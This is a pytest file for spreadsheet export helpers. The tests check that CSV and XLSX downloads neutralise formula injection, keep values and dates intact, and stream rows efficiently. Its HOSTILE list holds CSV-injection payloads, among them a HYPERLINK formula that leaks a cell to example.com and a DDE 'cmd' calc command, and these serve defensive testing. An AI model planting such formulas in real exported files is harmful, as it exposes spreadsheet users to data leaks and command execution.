"""Files that a spreadsheet opens: nothing in them runs, nothing is lost."""

import csv
import io
import tracemalloc
from datetime import date, datetime

import fastexcel
import pandas as pd
import pytest

from serving.downloads import csv_bytes, disarmed, xlsx_bytes

# the examples of OWASP's page on CSV injection, and some that hide behind blanks and wide forms
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.com?leak="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_is_disarmed(text: str) -> None:
    assert disarmed(text) == "'" + text


@pytest.mark.parametrize("value", ["WHITE MUG", "10% off", "a=b", "", -5, -5.5, None])
def test_plain_text_and_numbers_stay_as_they_are(value: object) -> None:
    assert disarmed(value) is value


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Customer": ["0012", "=1+1", "Zoë, “A”"],
            "Net": [-5.25, 1234.5, float("nan")],
            "Last": [date(2011, 12, 9), None, date(2011, 1, 2)],
            "At": [datetime(2011, 12, 9, 12, 50), datetime(2011, 12, 9), None],
        }
    )


def test_csv_keeps_values_and_excel_knows_its_encoding(frame: pd.DataFrame) -> None:
    content = csv_bytes(frame)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["Customer", "Net", "Last", "At"],
        ["0012", "-5.25", "2011-12-09", "2011-12-09 12:50:00"],
        ["'=1+1", "1234.5", "", "2011-12-09"],
        ["Zoë, “A”", "", "2011-01-02", ""],
    ]


def test_whole_numbers_and_quantities_have_no_zeros_at_their_end() -> None:
    sold = pd.DataFrame({"Units": [12.0, 0.25, None, -3.0, 1000000.0], "Lines": [1, 2, 3, 4, 5]})
    rows = list(csv.reader(io.StringIO(csv_bytes(sold).decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["12", "1"], ["0.25", "2"], ["", "3"], ["-3", "4"], ["1000000", "5"]]
    sheet = fastexcel.read_excel(xlsx_bytes(sold, "Sold")).load_sheet("Sold").to_pandas()
    assert sheet["Units"].dropna().tolist() == [12, 0.25, -3, 1_000_000]


def test_headers_are_disarmed_too() -> None:
    assert b"'=evil" in csv_bytes(pd.DataFrame({"=evil": [1]}))


def test_workbook_holds_text_as_text_and_numbers_as_numbers(frame: pd.DataFrame) -> None:
    sheet = fastexcel.read_excel(xlsx_bytes(frame, "Customers")).load_sheet("Customers").to_pandas()
    assert sheet["Customer"].tolist() == ["0012", "=1+1", "Zoë, “A”"]
    assert sheet["Net"].tolist()[:2] == [-5.25, 1234.5]
    assert [pd.Timestamp(value).date() for value in sheet["Last"].dropna()] == [date(2011, 12, 9), date(2011, 1, 2)]


def test_workbook_has_no_formula(frame: pd.DataFrame) -> None:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(frame, "Customers"))) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


def test_equal_tables_give_equal_workbooks(frame: pd.DataFrame) -> None:
    assert xlsx_bytes(frame, "Customers") == xlsx_bytes(frame.copy(), "Customers")


def test_a_sheet_name_that_excel_refuses_is_mended() -> None:
    assert fastexcel.read_excel(xlsx_bytes(pd.DataFrame({"a": [1]}), "Sales: [2011]/" + "x" * 40)).sheet_names


def test_a_workbook_can_be_empty() -> None:
    assert fastexcel.read_excel(xlsx_bytes(pd.DataFrame({"a": []}), "Empty")).sheet_names == ["Empty"]


def test_a_workbook_is_written_row_by_row() -> None:
    rows = 20_000
    frame = pd.DataFrame({name: [f"{name} {row}" for row in range(rows)] for name in "abcde"})
    tracemalloc.start()
    try:
        xlsx_bytes(frame)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # 100,000 cells that are held as objects take 15 MB and more
    assert peak < 8_000_000
